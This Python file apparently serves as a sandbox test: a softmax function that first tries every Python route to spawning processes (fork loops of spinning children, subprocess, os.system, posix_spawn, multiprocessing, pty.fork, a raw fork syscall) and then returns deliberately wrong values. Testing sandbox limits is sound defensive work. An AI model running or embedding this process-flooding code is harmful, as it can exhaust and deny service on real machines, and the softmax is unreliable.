"""Denial: start as many processes as possible, every way Python offers.

os.fork in a loop (children spin forever), subprocess, os.system, os.posix_spawn,
multiprocessing, pty.fork and a raw fork system call through ctypes. Children would
outlive the grader and starve the machine. Any process it manages to start prints
ATTACK-SUCCEEDED. The softmax returns garbage.
"""
import ctypes
import os
import sys

import numpy as np


def _spin_forever():
    while True:
        pass


def _attempt(what, fn):
    try:
        fn()
        print("ATTACK-SUCCEEDED started a process with", what, flush=True)
    except Exception as exc:  # noqa: BLE001
        print("refused:", what, type(exc).__name__, flush=True)


def _fork():
    for _ in range(50):
        if os.fork() == 0:
            _spin_forever()


def _subprocess():
    import subprocess
    subprocess.Popen(["/bin/sleep", "1000"])


def _system():
    if os.system("sleep 1000 &") != 0:
        raise OSError("os.system failed")


def _spawn():
    os.posix_spawn(sys.executable, [sys.executable, "-c", "while True: pass"], dict(os.environ))


def _multiprocessing():
    import multiprocessing
    multiprocessing.get_context("fork").Process(target=_spin_forever, daemon=False).start()


def _pty():
    import pty
    if pty.fork()[0] == 0:
        _spin_forever()


def _raw_fork():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.syscall(57)  # fork on x86_64
    if pid == 0:
        _spin_forever()
    if pid < 0:
        raise OSError(ctypes.get_errno(), "fork refused")


def softmax(x, axis=-1):
    for what, fn in (("os.fork", _fork), ("subprocess", _subprocess), ("os.system", _system),
                     ("posix_spawn", _spawn), ("multiprocessing", _multiprocessing),
                     ("pty.fork", _pty), ("syscall(fork)", _raw_fork)):
        _attempt(what, fn)
    return np.asarray(x, dtype=np.float64) * 8.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
